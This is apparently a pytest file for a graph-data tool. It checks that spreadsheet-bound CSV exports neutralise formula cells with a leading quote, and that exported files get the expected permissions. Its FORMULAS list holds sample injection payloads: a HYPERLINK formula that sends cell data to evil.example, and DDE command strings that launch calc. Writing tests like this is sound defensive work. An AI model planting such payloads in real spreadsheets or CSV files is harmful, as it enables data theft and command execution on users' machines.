"""Formula cells in CSV meant for spreadsheets (``export --format csv``, ``analyze --format
csv``, the explorer's "Download CSV") arrive as text; ``/sparql``'s ``text/csv`` stays the
SPARQL CSV format, byte for byte; exports and figures are written with the usual mode."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from cli.analyze import _csv
from graph.build import build_store
from graph.spreadsheet import FORMULA_STARTS, spreadsheet_cell
from graph.store import OxigraphStore, open_store
from tests.conftest import MINIMAL_DATA, run_cli
from tests.hardening.conftest import app_over
from tests.hardening.record import record_inputs

#: Labels a spreadsheet would run: a data leak, a command (DDE), arithmetic, a function …
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)


def _is_defused(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS)


@given(st.text(max_size=40))
def test_every_cell_is_defused_and_keeps_its_text(text: str) -> None:
    cell = spreadsheet_cell(text)
    if cell != text:  # defused: one quote in front, nothing else changed
        assert cell == "'" + text and text.startswith(FORMULA_STARTS)
    else:  # unchanged: safe text or a plain number
        assert _is_defused(text) or float(text) == float(text)


@pytest.fixture(scope="module")
def formula_store_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The fixture data with formulas as English labels."""
    base = tmp_path_factory.mktemp("formulas")
    data = base / "data"
    data.mkdir()
    texts = {p.name: p.read_text(encoding="utf-8") for p in MINIMAL_DATA.glob("*.ttl")}
    labels = ('"Republic of Korea"@en', '"AUKUS"@en', '"Japan"@en')
    for label, formula in zip(labels, FORMULAS, strict=False):
        assert label in texts["world.ttl"]
        texts["world.ttl"] = texts["world.ttl"].replace(label, json.dumps(formula) + "@en")
    for name, text in texts.items():
        (data / name).write_text(text, encoding="utf-8")
    build_store([data], base / "store")
    return base / "store"


def test_export_csv_defuses_formula_labels_and_uses_the_usual_mode(
    formula_store_path: Path, tmp_path: Path
) -> None:
    out = tmp_path / "tables"
    result = run_cli("export", "-f", "csv", "-o", out, "--store", formula_store_path)
    assert result.returncode == 0, result.stderr
    cells = [
        cell
        for name in ("nodes.csv", "edges.csv")
        for row in csv.reader(io.StringIO((out / name).read_text(encoding="utf-8")))
        for cell in row
    ]
    assert all(_is_defused(cell) for cell in cells)
    assert "'" + FORMULAS[0] in cells  # still there, as text
    for name in ("nodes.csv", "edges.csv"):  # run_cli's umask is the usual 022
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o666 & ~_umask()
    record_inputs("formula cells in CSV meant for spreadsheets, defused", 3)


def _umask() -> int:
    current = os.umask(0o022)
    os.umask(current)
    return current


@pytest.mark.parametrize("umask", [0o022, 0o027, 0o077])
def test_exports_and_figures_get_0666_less_the_umask(
    fixture_store_path: Path, tmp_path: Path, umask: int
) -> None:
    from graph.export import export
    from viz.output import write_atomically

    store = open_store(fixture_store_path)
    assert isinstance(store, OxigraphStore)
    previous = os.umask(umask)
    try:
        written = export(store, "turtle", tmp_path / "graph.ttl")
        written += export(store, "csv", tmp_path / "tables")
        write_atomically(tmp_path / "figure.svg", b"<svg/>")
    finally:
        os.umask(previous)
        store.close()
    for path in [*written, tmp_path / "figure.svg"]:
        assert stat.S_IMODE(path.stat().st_mode) == 0o666 & ~umask, path
    assert not list(tmp_path.glob(".*.tmp"))


def test_analyze_csv_defuses_labels_but_keeps_numbers() -> None:
    text = _csv(
        [{"label": FORMULAS[1], "score": -0.25}, {"label": "Japan", "score": 1.0}],
        ["label", "score"],
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["label", "score"], ["'" + FORMULAS[1], "-0.2500"], ["Japan", "1.0000"]]


@pytest.fixture(scope="module")
def formula_client(formula_store_path: Path) -> Iterator[TestClient]:
    store = open_store(formula_store_path)
    assert isinstance(store, OxigraphStore)
    with TestClient(app_over(store), raise_server_exceptions=False) as client:
        yield client
    store.close()


def test_the_explorers_csv_download_is_defused_and_sparql_csv_is_not(
    formula_client: TestClient,
) -> None:
    query = "SELECT ?label WHERE { ?s rdfs:label ?label } ORDER BY ?label"
    download = formula_client.get("/query/results.csv", params={"query": query})
    assert download.status_code == 200
    assert download.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in download.headers["content-disposition"]
    cells = [cell for row in csv.reader(io.StringIO(download.text)) for cell in row]
    assert all(_is_defused(cell) for cell in cells)
    assert "'" + FORMULAS[0] in cells
    # /sparql's text/csv is the SPARQL 1.1 CSV format: values exactly as they are.
    data = formula_client.get("/sparql", params={"query": query, "format": "csv"})
    assert data.status_code == 200
    values = [cell for row in csv.reader(io.StringIO(data.text)) for cell in row]
    assert FORMULAS[0] in values and "'" + FORMULAS[0] not in values
    graph = formula_client.get("/query/results.csv", params={"query": "DESCRIBE id:kor"})
    assert graph.status_code == 406 and "Turtle" in graph.json()["error"]
    record_inputs("formula cells in CSV meant for spreadsheets, defused", len(FORMULAS))
